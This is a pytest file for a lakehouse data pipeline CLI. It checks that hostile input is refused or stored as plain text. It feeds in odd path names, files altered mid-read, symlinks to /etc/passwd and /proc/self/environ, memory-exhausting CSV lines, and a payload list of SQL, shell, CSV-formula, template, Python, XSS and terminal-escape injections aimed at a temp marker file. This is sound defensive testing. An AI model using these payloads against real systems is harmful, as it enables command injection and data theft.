"""Input as attack: paths, names, cells, lines and links that are made to break something."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
from rich.console import Console

from lakehouse import Lakehouse
from lakehouse.bronze.clickstream import SOURCE
from lakehouse.cli import show
from lakehouse.cli.show.progress_lines import Moving, Staying, a_bar
from lakehouse.engines.embedded import EmbeddedStore
from lakehouse.engines.spark import SparkStore
from lakehouse.errors import BadInput
from lakehouse.generate import generate
from lakehouse.landing import chunks
from lakehouse.landing.records import Splitter
from lakehouse.run.job import Job
from lakehouse.run.run import run
from lakehouse.storage import paths
from lakehouse.storage.commit_note import CommitNote
from lakehouse.storage.datamart import Datamart
from lakehouse.storage.log import Log
from lakehouse.storage.paths import plain
from lakehouse.training import spine as spines
from tests.cli import test_cli
from tests.cli.test_cli import Answer
from tests.narrow import narrow
from tests.on_spark import OnSpark
from tests.run.test_laws import CUSTOMERS, FILE, RAW, click, content, deliver, run_on

ROOT = Path(__file__).parents[2]
NARROW = narrow()
BRONZE = RAW.table("bronze.clickstream")
ROWS = [click(customer, "2023-01-01", n) for n, customer in enumerate(CUSTOMERS)]
# What a terminal would obey, or not show; a line feed alone is fine.
OBEYED = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
SHOUTED = "\x1b[2J\x9b31m\u202e"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\rok\x9b31m\u202etxt"


def tree(root: Path) -> dict[str, tuple[int, int]]:
    """Every file and folder below a folder, with its size and time; locks alone may be touched."""
    found = {}
    for path in (each for each in root.rglob("*") if not each.name.endswith(".lock")):
        state = path.lstat()
        found[str(path.relative_to(root))] = (
            (0, 0)
            if path.is_dir()
            else (
                state.st_size,
                state.st_mtime_ns,
            )
        )
    return found


def outside(root: Path, *within: Path) -> dict[str, tuple[int, int]]:
    """The same, without what lies in these folders."""
    names = [str(each.relative_to(root)) for each in within]
    return {
        path: state
        for path, state in tree(root).items()
        if not any(path == name or path.startswith(f"{name}/") for name in names)
    }


def one_line(answer: Answer, code: int = 2) -> str:
    """The one line with which a command refuses."""
    assert (answer.code, answer.out) == (code, "") and answer.err.count("\n") == 1, answer
    assert answer.err.startswith("error: ") and not OBEYED.search(answer.err)
    return answer.err


def ask(*argv: str | Path) -> Answer:
    """Run the command line in this process, on the narrow catalog."""
    return test_cli.ask(*argv, catalog=NARROW)


# A raw file that changes while it is read


def appended(path: Path) -> None:
    with path.open("a") as file:
        file.write(ROWS[0] + "\n")


def overwritten(path: Path) -> None:
    with path.open("r+b") as file:
        file.seek(-2, os.SEEK_END)
        file.write(b"9")
    os.utime(path, ns=(time.time_ns(), time.time_ns() + 1))


def cut_short(path: Path) -> None:
    os.truncate(path, path.stat().st_size - 30)


def replaced(path: Path) -> None:
    other = path.with_name("other")
    shutil.copy2(path, other)
    other.replace(path)


def made_binary(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:-5] + b"\0\0\0\0\0")


CHANGES = [appended, overwritten, cut_short, replaced, made_binary, Path.unlink]


@contextmanager
def changed_at_first_block(path: Path, change: Callable[[Path], None]) -> Iterator[list[int]]:
    """Change a file once a part of it is read; counts how often it was."""
    take, done = Splitter.take, [0]

    def taking(splitter: Any, block: bytes, last: bool) -> int:
        if not done[0]:
            done[0] += 1
            change(path)
        return take(splitter, block, last)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(chunks, "CHUNK_BYTES", 64)
        patch.setattr(Splitter, "take", taking)
        yield done


@pytest.mark.parametrize("change", CHANGES, ids=lambda change: change.__name__)
def test_a_raw_file_that_changes_while_it_is_read_is_refused_and_taken_whole_by_the_next_run(
    change: Callable[[Path], None], tmp_path: Path
) -> None:
    deliver(tmp_path / "data", ROWS)
    run_on(RAW, tmp_path)
    before = content(tmp_path, BRONZE)
    corrected = [row.replace("0,", "1,", 1) for row in ROWS]
    deliver(tmp_path / "data", corrected)
    raw = tmp_path / "data" / FILE
    with (
        changed_at_first_block(raw, change) as changes,
        pytest.raises(BadInput, match=rf"^{FILE} changed while it was read; run again once its"),
    ):
        run_on(RAW, tmp_path)
    assert changes == [1] and content(tmp_path, BRONZE) == before
    deliver(tmp_path / "data", corrected)

    report = run_on(RAW, tmp_path)

    assert report.tables["bronze.clickstream"].rows.accepted == len(ROWS)  # type: ignore[union-attr]
    assert content(tmp_path, BRONZE) != before


def test_a_raw_file_that_is_only_looked_at_meanwhile_is_taken(tmp_path: Path) -> None:
    deliver(tmp_path / "data", ROWS)
    raw = tmp_path / "data" / FILE
    with changed_at_first_block(raw, lambda path: path.read_bytes() and None) as changes:  # type: ignore[arg-type]
        run_on(RAW, tmp_path)
    assert changes == [1] and len(content(tmp_path, BRONZE)) == len(ROWS)


def test_a_spine_that_changes_while_it_is_read_is_refused_and_not_kept(
    odd: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spine = tmp_path / "spine.csv"
    spine.write_text("customer_id,application_date\nC1,2023-06-01\n")
    monkeypatch.setattr(spines, "check_rows", lambda path, _duckdb: spine.write_text("other"))
    argv = ["--spine", spine, "--out", tmp_path / "t.parquet", "--datamart", odd / "mart"]
    kept = set(odd.glob("mart/ledger/spines/*"))
    assert "spine.csv changed while it was read" in one_line(ask("training-set", *argv))
    assert not (tmp_path / "t.parquet").exists() and set(odd.glob("mart/ledger/spines/*")) == kept


# Paths

NAMES = [
    "a b", "it's", 'q"q', "b`t", "50%", "a*b", "{a,b}", "$HOME", "~", "a;b&c", "-x", "trail ", ".x", "c:d",
    "month=2023-01", "bücher", "漢字😀", "\u202e", "e\u0301", "<a>", "x" * 255,
]  # fmt: skip
REFUSED = [
    "a#b",
    "a?b",
    "a[b",
    "a]b",
    "a|b",
    "a^b",
    "a\\b",
    "a%20b",
    "a\nb",
    "a\tb",
    "\x1b[31m",
    "\x7f",
]


def spelt(name: str) -> str:
    return ascii(name[:9])[1:-1]


# A folder within another, as a run on each takes half a second.
@pytest.mark.parametrize("name", ["/".join(NAMES[n::5]) for n in range(5)], ids=spelt)
def test_a_datamart_may_have_any_name(name: str, tmp_path: Path) -> None:
    root = tmp_path / name
    for folder in (root, tmp_path / "up"):
        folder.mkdir(parents=True)
    deliver(root / "data", ROWS)
    given = tmp_path / "up" / ".." / name
    before = outside(tmp_path, root / "datamart")

    run_on(RAW, given)
    deliver(root / "data", [row.replace("0,", "1,", 1) for row in ROWS])
    second = run_on(RAW, given)

    assert second.tables["bronze.clickstream"].changed == len(ROWS)
    assert run_on(RAW, given).tables == {}
    assert len(content(root, BRONZE)) == len(ROWS)
    raw = f"{name}/data/{FILE}"
    after = outside(tmp_path, root / "datamart")
    assert {**after, raw: None} == {**before, raw: None}


@pytest.mark.parametrize("name", REFUSED, ids=spelt)
def test_a_path_that_deltas_library_cannot_open_is_refused_before_anything_is_made(
    name: str, tmp_path: Path
) -> None:
    deliver(tmp_path / "data", ROWS)
    before = tree(tmp_path)
    with pytest.raises(BadInput, match="Delta's library cannot open a path with"):
        run(
            Job(
                tmp_path / "data",
                Datamart.at(tmp_path / name, RAW),
                lambda datamart, _size: EmbeddedStore(datamart),
            )
        )
    assert tree(tmp_path) == before


ODD = 'it\'s a "50%" *{x}~ ü😀 `b`'


@pytest.fixture(scope="module")
def odd(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of an odd name, in it `da ta` and a datamart of these files in two releases."""
    root = tmp_path_factory.mktemp("odd") / ODD
    generate(root / "da ta", customers=150, months=12, seed=3)
    for more in (["--through", "2023-04"], []):
        made = ask("run", "--data", root / "da ta", "--datamart", root / "mart", *more)
        assert made.code == 0, made.err
    return root


@pytest.mark.parametrize(
    "argv",
    [
        ["status"],
        ["plan"],
        ["history", "gold.label_store"],
        ["releases"],
        ["diff", "1", "2", "--keys"],
        ["training-sets"],
        pytest.param(["audit"], marks=pytest.mark.slow),
        ["vacuum", "--dry-run"],
        ["doctor"],
        ["erase", "--customer", "{customer}", "--dry-run"],
    ],
    ids=lambda argv: argv[0],
)
def test_a_command_on_odd_paths_does_its_work_and_writes_nowhere_else(
    argv: list[str], odd: Path
) -> None:
    before = outside(odd, odd / "mart")
    customer = pd.read_csv(odd / "da ta" / FILE).Customer_ID.min()
    words = [word.format(customer=customer) for word in argv]
    answer = ask(*words, "--data", odd / "da ta", "--datamart", odd / "mart", "--json")
    assert answer.code == 0, answer
    assert json.loads(answer.out) is not None and outside(odd, odd / "mart") == before


def test_a_training_set_and_its_spine_may_have_any_name(odd: Path) -> None:
    spine, out = odd / 'sp[i]?#\\ "ne".csv', odd / "new ü" / "o#u?t [1]\n.parquet"
    customer = pd.read_csv(odd / "da ta" / FILE).Customer_ID.min()
    spine.write_text(f"customer_id,application_date\n{customer},2023-06-01\n")
    where = ["--datamart", odd / "mart", "--features", "age,fe_1"]

    answer = ask("training-set", "--spine", spine, "--out", out, *where)

    assert answer.code == 0, answer.err
    made = answer.out.split()[0]
    assert pq.read_table(out).column("customer_id").to_pylist() == [customer]
    assert ask("training-set", "--reproduce", made, "--datamart", odd / "mart").code == 0
    assert [each.name for each in out.parent.iterdir()] == [out.name]


def test_generated_files_and_the_package_may_have_any_name(odd: Path) -> None:
    made = ask("generate", "--customers", "3", "--months", "1", "--out", odd / "ge[n]# \\n\n?")
    assert made.code == 0 and len(list((odd / "ge[n]# \\n\n?").iterdir())) == 4
    out = odd / "zi[p]# \\?\n.zip"
    url = ["--repo-url", "https://example.org/a/b"]
    packed = ask("package", "--data", odd / "da ta", "--out", out, *url)
    assert packed.code == 0, packed.err
    assert out.is_file() and not OBEYED.search(packed.out)


def test_python_and_sql_read_a_datamart_of_any_name(odd: Path) -> None:
    lake = Lakehouse(odd / "mart")
    then = lake.at(release=1).table("gold.label_store").count()
    assert then < lake.table("gold.label_store").count()
    version = lake.history("gold.label_store").index.max()
    asked = f"SELECT count(*) FROM gold.label_store VERSION AS OF {version}"
    assert lake.spark.sql(asked).collect()[0][0] == lake.spark.table("gold.label_store").count()


def test_an_alias_is_its_users_alone_and_no_log_names_it(odd: Path) -> None:
    alias = Path(plain(odd / "mart"))
    assert alias.resolve() == (odd / "mart").resolve() and re.fullmatch(r"[\w./+-]+", str(alias))
    link = next(each for each in (alias, *alias.parents) if each.is_symlink())
    assert [each.stat().st_mode & 0o777 for each in link.parents[:2]] == [0o700, 0o700]
    logs = list((odd / "mart").glob("*/*/_delta_log/*.json"))
    assert logs and not [log for log in logs if "lakehouse-alias" in log.read_text()]


def test_where_no_plain_alias_can_be_made_the_user_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "a b").mkdir()
    monkeypatch.setattr(paths, "aliases", lambda: SimpleNamespace(name=str(tmp_path / "a b")))
    with pytest.raises(BadInput, match="set TMPDIR to a path of letters and digits"):
        plain(tmp_path / "c d")


def built_by_spark(root: Path) -> int:
    """Build and correct a datamart on Spark; how many rows it then reads."""
    store = {"open_store": lambda datamart, _size: SparkStore(datamart)}
    root.mkdir()
    for rows in (ROWS, [row.replace("0,", "1,", 1) for row in ROWS]):
        deliver(root / "data", rows)
        run(Job(root / "data", Datamart.at(root / "datamart", RAW), **store))  # type: ignore[arg-type]
    found = SparkStore(Datamart.at(root / "datamart", RAW))
    assert found.compact(BRONZE, CommitNote()) is None
    return found.read(BRONZE).count()


@pytest.mark.spark
def test_a_datamart_of_spark_may_have_any_name_too(on_spark: OnSpark, tmp_path: Path) -> None:
    root = tmp_path / ODD
    assert on_spark(built_by_spark, root) == len(ROWS)
    assert len(content(root, BRONZE)) == len(ROWS) and run_on(RAW, root).tables == {}
    assert [each.name for each in tmp_path.iterdir()] == [ODD]


# A text that is not a path, or names nothing

URLS = ["gs://bucket/x", "s3a:/bucket/x", "https://example.org/x", "file:///tmp/x", "hdfs://h/x"]
PLACES = [
    ["run", "--data"],
    ["run", "--datamart"],
    ["status", "--datamart"],
    ["training-set", "--out"],
    ["training-set", "--out", "t.parquet", "--spine"],
    ["model", "--out"],
    ["generate", "--out"],
    ["package", "--out"],
]


@pytest.mark.parametrize("argv", PLACES, ids=" ".join)
@pytest.mark.parametrize(
    "path",
    [*URLS, "", "\0", "a\udcffb", "x" * 256, "y/" * 3000, "loop"],
    ids=lambda path: spelt(path) or "empty",
)
def test_what_can_be_no_path_is_refused_in_one_line_and_makes_nothing(
    argv: list[str], path: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "loop").symlink_to("loop")
    assert f"Invalid value for '{argv[-1]}'" in one_line(ask(*argv, path))
    assert [each.name for each in tmp_path.iterdir()] == ["loop"]


@pytest.mark.parametrize("url", URLS)
def test_python_refuses_a_url_in_one_line(url: str) -> None:
    with pytest.raises(BadInput, match="of object stores only s3a:// and az:// are supported"):
        Lakehouse(url)


WORDS = [
    ESCAPES,
    "'; DROP TABLE x; --",
    "$(touch ran)",
    "`touch ran`",
    "{{7*7}}",
    "../../etc",
    "ü😀",
    "%s%n",
]


@pytest.mark.parametrize("word", WORDS, ids=spelt)
@pytest.mark.parametrize(
    "argv",
    [
        ["{}"],
        ["history", "{}"],
        ["dictionary", "{}"],
        ["diff", "1", "2", "{}"],
        ["diff", "{}", "2"],
        ["run", "--through", "{}"],
        ["run", "--engine", "{}"],
        ["run", "--max-bad", "{}"],
        ["training-set", "--out", "t.parquet", "--features", "{}"],
        ["training-set", "--out", "t.parquet", "--groups", "{}"],
        ["training-set", "--out", "t.parquet", "--label-def", "{}"],
        ["training-set", "--out", "t.parquet", "--release", "{}"],
        ["training-set", "--reproduce", "{}"],
        ["package", "--out", "p.zip", "--repo-url", "{}"],
        ["erase", "--yes", "--customer", "{}"],
    ],
    ids=lambda argv: " ".join(argv),
)
def test_a_word_made_to_run_is_refused_in_one_line_as_it_is(
    argv: list[str], word: str, odd: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    before = tree(odd)
    where = ["--data", odd / "da ta", "--datamart", odd / "mart"]
    words = [each.replace("{}", word) for each in argv]
    one_line(ask(*words, *(where if argv[0] not in ("dictionary", "{}") else [])))
    assert not list(tmp_path.iterdir()) and tree(odd) == before


@pytest.mark.parametrize(
    ("argv", "words"),
    [
        (["generate", "--customers", "99999999999", "--out", "g"], "customers must be 1 to"),
        (["generate", "--months", "99999", "--out", "g"], "months must be 1 to"),
        (["generate", "--out", "file"], "is a file; give a folder"),
        (["generate", "--out", "file/g"], "no folder can be made there (Not a directory)"),
        (["history", "--limit", "9" * 30], "is not in the range"),
        (["diff", "1", "2", "--limit", "9" * 30], "is not in the range"),
        (["diff", "9" * 30, "2"], "no release 999"),
        (["training-set", "--out", "t.parquet", "--release", "9" * 30], "no release 999"),
    ],
    ids=lambda each: " ".join(each)[:40] if isinstance(each, list) else "",
)
def test_numbers_beyond_all_bounds_and_files_for_folders_are_refused_in_one_line(
    argv: list[str], words: str, odd: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "file").touch()
    where = ["--datamart", odd / "mart"] if argv[0] != "generate" else []
    assert words in one_line(ask(*argv, *where))
    assert [each.name for each in tmp_path.iterdir()] == ["file"]


# Cells and columns made to run

_ERR_ON_A_TERMINAL = Console(file=io.StringIO(), force_terminal=True)


def payloads(mark: Path) -> list[str]:
    """Texts each of which makes a file where something takes it for code."""
    return [
        f"'; COPY (SELECT 1) TO '{mark}'; --",
        f'"); COPY (SELECT 1) TO \'{mark}\'; --',
        f"`touch {mark}`",
        f"$(touch {mark})",
        f"; touch {mark} #",
        f"=cmd|'/C touch {mark}'!A0",
        '=HYPERLINK("http://example.org/?"&A1,"x")',
        "+1+1", "-1", "@SUM(A1)",
        "{{ cycler.__init__.__globals__.os.popen('touch " + str(mark) + "') }}",
        f"{{{{7*7}}}}${{7*7}}<%= `touch {mark}` %>",
        f"__import__('os').system('touch {mark}')",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "[bold red]markup[/] [/] :smile:",
        ESCAPES, "\\N", "NULL", "%s %d %n", "../../../etc/passwd",
    ]  # fmt: skip


IDS = [
    "';--7",
    '"7"',
    "{{7*7}}",
    "$(7)",
    "`7`",
    "=1+1",
    "<b>7</b>",
    "%s7",
    "\x1b[31m7",
    "7\u202e",
    "7\\",
]


@pytest.fixture(scope="module")
def attacked(generated: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Payloads in cells, ids and extra columns of the attributes; what main.py made of them."""
    root = tmp_path_factory.mktemp("attacked")
    shutil.copytree(generated, root / "data")
    persons = root / "data" / "features_attributes.csv"
    texts = payloads(root / "ran")
    frame = pd.read_csv(persons, dtype=str, keep_default_na=False)
    for name in ("Name", "Occupation", "Age", "SSN"):
        frame.loc[: len(texts) - 1, name] = texts
    frame.loc[len(texts) : len(texts) + len(IDS) - 1, "Customer_ID"] = IDS
    for text in texts[:13]:
        frame[f"{text}{ESCAPES}"] = text
    frame.to_csv(persons, index=False, quoting=csv.QUOTE_ALL)
    return root


@pytest.fixture(scope="module")
def built(attacked: Path) -> Answer:
    where = ["--data", attacked / "data", "--datamart", attacked / "mart"]
    return ask("run", "--max-null", "1", *where)


def test_payloads_in_cells_and_columns_are_kept_as_text_and_run_nowhere(
    attacked: Path, built: Answer
) -> None:
    assert built.code == 0, built.err
    assert sorted(each.name for each in attacked.iterdir()) == ["data", "mart"]
    raw = pd.read_csv(
        attacked / "data" / "features_attributes.csv", dtype=str, keep_default_na=False
    )
    rows = Log(str(attacked / "mart")).read(NARROW.table("bronze.attributes"))
    for name in ("Customer_ID", "Name", "Occupation", "Age", "SSN"):
        assert sorted(row[name] or "" for row in rows) == sorted(raw[name])
    extra = {name for name in rows[0] if name not in NARROW.table("bronze.attributes").columns}
    assert len(extra) == 13 and all(re.fullmatch(r"[\w-]+", name) for name in extra)


def test_what_is_printed_of_payloads_moves_no_terminal(attacked: Path, built: Answer) -> None:
    customer = pd.read_csv(attacked / "data" / "features_attributes.csv").Customer_ID.iloc[-1]
    where = ["--data", attacked / "data", "--datamart", attacked / "mart"]
    printed = [built, ask("status", *where), ask("releases", *where, "--json")]
    frame = pd.read_csv(attacked / "data" / "features_attributes.csv", dtype=str)
    frame.Occupation = frame.Occupation[::-1].to_numpy()
    frame[frame.Customer_ID != customer].to_csv(
        attacked / "data" / "features_attributes.csv", index=False, quoting=csv.QUOTE_ALL
    )
    printed += [
        ask("run", "--max-null", "1", *where),
        ask("diff", "1", "2", "--keys", "--limit", "99", *where),
    ]
    printed += [ask("diff", "1", "2", "--keys", "--limit", "99", "--json", *where)]
    assert [answer.err for answer in printed if answer.code] == []
    assert any("\\u001b" in answer.out for answer in printed)
    assert not any(OBEYED.search(answer.out + answer.err) for answer in printed)
    as_told = json.loads(printed[-1].out)
    assert "\x1b[31m7" in repr(as_told).encode().decode("unicode_escape")


def test_markup_and_emoji_in_what_is_printed_are_text(capsys: pytest.CaptureFixture[str]) -> None:
    text = f":b: [red]x[/] [/] {ESCAPES}"
    show.note(text)
    show.rows(text, [{"value": text, "lines": "a\nb"}])
    Staying()("t", text, ["2023-01"])
    with a_bar(_ERR_ON_A_TERMINAL) as bar:
        Moving(bar)("t", text, [])
        assert ":b: [red]x[/] [/] \\u001b" in bar.tasks[0].description
    printed = capsys.readouterr()
    for seen in (printed.out, printed.err):
        assert ":b: [red]x[/] [/] \\u001b]0;owned" in seen and not OBEYED.search(seen)
    assert "a\\nb" in printed.out


@pytest.mark.parametrize(
    ("header", "words"),
    [
        ([*SOURCE.header[:-1], SHOUTED], "no column snapshot_date"),
        ([*SOURCE.header, f"a{SHOUTED}", f"A{SHOUTED}"], "names columns twice"),
        ([*SOURCE.header, "a b", "a_b"], "names columns twice"),
        ([*SOURCE.header, "fe 1"], "names columns twice"),
        ([*SOURCE.header, "_run_id"], "the lakehouse itself uses"),
        ([*SOURCE.header, "x" * 300], "a column name of 300 characters"),
        ([*SOURCE.header, *(f"x{n}" for n in range(500))], "has 522 columns, and at most 500"),
    ],
    ids=["escapes", "escapes twice", "signs apart", "a declared one", "ours", "long", "many"],
)
def test_a_header_made_to_break_something_is_refused_in_one_line(
    header: list[str], words: str, data: Path, tmp_path: Path
) -> None:
    (data / FILE).write_text(",".join(header) + "\n" + ROWS[0] + ",x" * (len(header) - 22) + "\n")
    answer = ask("run", "--data", data, "--datamart", tmp_path / "mart")
    assert words in one_line(answer)
    assert not (tmp_path / "mart" / "bronze").exists()


def test_a_column_that_comes_again_in_another_case_is_the_same_column(tmp_path: Path) -> None:
    for name in ("Note", "NOTE"):
        (tmp_path / "data").mkdir(exist_ok=True)
        lines = [",".join([*SOURCE.header, name]), *(f"{row},{name}" for row in ROWS)]
        (tmp_path / "data" / FILE).write_text("\n".join(lines))
        run_on(RAW, tmp_path)
    rows = Log(str(tmp_path / "datamart")).read(BRONZE)
    assert {row["Note"] for row in rows} == {"NOTE"} and "NOTE" not in rows[0]


# Lines like zip bombs

MIB = 1 << 20
LANDS = """
import json, sys
from pathlib import Path
from lakehouse.bronze.clickstream import SOURCE
from lakehouse.landing.counts import Counts
from lakehouse.landing.land import land
from lakehouse.cli.exit_codes import exit_code
from lakehouse.errors import LakehouseError
folder = Path(sys.argv[1])
try:
    landed = land(SOURCE, folder / "raw.csv", folder / "into")
    told = repr(sum(landed.counts.values(), Counts()))
except LakehouseError as error:
    told = f"{exit_code(error)}: {error}"
# Not getrusage, which begins at the size of the process that started this one.
peak = Path("/proc/self/status").read_text().split("VmHWM:")[1].split()[0]
print(json.dumps([told, int(peak) >> 10]))
"""
GOOD = "".join(f"{click(f'C{n}', '2023-01-01', 1)}\n" for n in range(100))
HEADED = ",".join(SOURCE.header) + "\n" + GOOD
ONE_BAD = "Counts(rows_in=101, accepted=100, quarantined=1, equal_duplicates=0, superseded=0)"


@pytest.mark.slow
@pytest.mark.parametrize(
    ("before", "piece", "times", "after", "told"),
    [
        ("", "a" * MIB, 300, "", "2: raw.csv has no readable header: its first line is longer than"),
        (HEADED, "a" * MIB, 300, "", ONE_BAD),
        (HEADED, "," * MIB, 300, "", ONE_BAD),
        (HEADED, '"' * MIB, 100, "", ONE_BAD),
        ("", ",".join(f"x{n}" for n in range(10**6)) + "\n" + GOOD, 1, "", "longer than 1,048,576"),
        (HEADED, '"' * 100_001 + "\n", 1, "", ONE_BAD),
        (HEADED, '"a,"' * 25_000 + "\n", 1, "", ONE_BAD),
        (HEADED + '"', ("b" * 99 + "\n") * (MIB // 100), 200, '"\n', "not of its form"),
        (HEADED + '"', "\n" * MIB, 50, '"\n', "quarantined=2"),
        (HEADED, '"\n' * (MIB // 2), 50, "", "not of its form"),
        (HEADED, "\r" * MIB, 100, "", ONE_BAD),
    ],
    ids=[
        "one line", "a line", "commas", "quotes in one line", "a million columns", "100,000 quotes",
        "quotes in quotes", "a row in quotes", "line feeds in quotes", "a quote a line", "returns",
    ],
)  # fmt: skip
def test_a_line_like_a_zip_bomb_takes_little_memory_and_gets_one_answer(
    before: str, piece: str, times: int, after: str, told: str, tmp_path: Path
) -> None:
    with (tmp_path / "raw.csv").open("w") as file:
        file.write(before)
        file.writelines(piece for _ in range(times))
        file.write(after)

    done = subprocess.run(
        [sys.executable, "-c", LANDS, str(tmp_path)], cwd=ROOT, capture_output=True, timeout=300
    )

    (tmp_path / "raw.csv").unlink()
    answer, peak_mib = json.loads(done.stdout)
    assert told in answer and done.stderr == b"", (answer, done.stderr)
    assert peak_mib < 1536, f"{peak_mib} MiB at the peak"


# Links


def linked(target: str | Path) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(target)


@pytest.mark.parametrize(
    ("place", "words"),
    [
        (linked("."), "is a folder, not a file"),
        (linked("nowhere"), "cannot be read (No such file"),
        (linked(FILE), "cannot be read (Too many levels of symbolic links)"),
        (linked("/dev/zero"), "is a pipe or device, not a file"),
        (linked("/dev/null"), "is a pipe or device, not a file"),
        (os.mkfifo, "is a pipe or device, not a file"),
        (linked("/etc/passwd"), "wrong header: no column"),
        (linked("/proc/self/environ"), f"{FILE} is not text: NUL byte"),
        (linked("../mart/.lock"), "changed after it was listed"),
    ],
    ids=["folder", "nothing", "itself", "zero", "null", "pipe", "passwd", "environment", "lock"],
)
def test_a_link_in_the_place_of_a_raw_file_shows_nothing_and_stops_nothing(
    place: Callable[[Path], None], words: str, data: Path, tmp_path: Path
) -> None:
    (tmp_path / "mart").mkdir()
    (tmp_path / "mart" / ".lock").touch()
    (data / FILE).unlink()
    place(data / FILE)
    told = one_line(ask("run", "--data", data, "--datamart", tmp_path / "mart"))
    assert words in told and "root:" not in told and "PATH=" not in told
    assert not (tmp_path / "mart" / "bronze").exists()


def test_a_link_to_a_good_raw_file_is_that_file(tmp_path: Path) -> None:
    deliver(tmp_path / "elsewhere", ROWS)
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / FILE).symlink_to(tmp_path / "elsewhere" / FILE)
    assert run_on(RAW, tmp_path).tables["bronze.clickstream"].changed == len(ROWS)


@pytest.mark.parametrize(
    "planted",
    [
        "bronze",
        "bronze/clickstream",
        "bronze/clickstream/_delta_log",
        "bronze/clickstream/month=2023-01",
        "bronze/clickstream/_change_data",
        "ledger/spines",
        "_work",
        ".lock",
        ".writer",
    ],
)
def test_a_link_planted_in_a_datamart_is_refused_and_nothing_is_written_behind_it(
    planted: str, tmp_path: Path
) -> None:
    deliver(tmp_path / "data", ROWS)
    run_on(RAW, tmp_path)
    place, elsewhere = tmp_path / "datamart" / planted, tmp_path / "elsewhere"
    if place.exists():
        place.rename(elsewhere)
    elsewhere.touch() if planted.startswith(".") else elsewhere.mkdir(exist_ok=True)
    place.symlink_to(elsewhere)
    deliver(tmp_path / "data", ROWS[:1])
    before = tree(tmp_path)
    with pytest.raises(BadInput, match=rf"datamart .*: {planted} is a link, and nothing outside"):
        run_on(RAW, tmp_path)
    assert tree(tmp_path) == before


def test_a_whole_datamart_may_be_a_link(tmp_path: Path) -> None:
    deliver(tmp_path / "data", ROWS)
    (tmp_path / "disk").mkdir()
    (tmp_path / "datamart").symlink_to(tmp_path / "disk")
    run_on(RAW, tmp_path)
    assert len(content(tmp_path, BRONZE)) == len(ROWS) and (tmp_path / "disk" / "bronze").is_dir()
